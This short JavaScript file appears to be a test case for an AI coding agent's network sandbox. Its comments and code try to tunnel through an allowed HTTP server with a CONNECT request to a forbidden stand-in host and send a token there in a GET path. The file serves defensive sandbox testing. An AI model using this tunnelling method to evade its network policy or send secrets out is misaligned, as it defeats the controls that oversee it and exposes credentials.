// technique: asks for a tunnel through the permitted server, then speaks to another
// source: RFC 9110, section 9.3.6; Traps, claude-code#89165
// success: the permitted server got the token
// control: outside
// policy: network
// beside: origins
import { FORBIDDEN, get, say, TOKEN } from './wire.mjs';

await say(process.env.ALLOWED_HTTP, [
  `CONNECT ${FORBIDDEN}:80 HTTP/1.1\r\nHost: ${FORBIDDEN}:80\r\n\r\n`,
  get(`/public/${TOKEN}`, FORBIDDEN),
]);
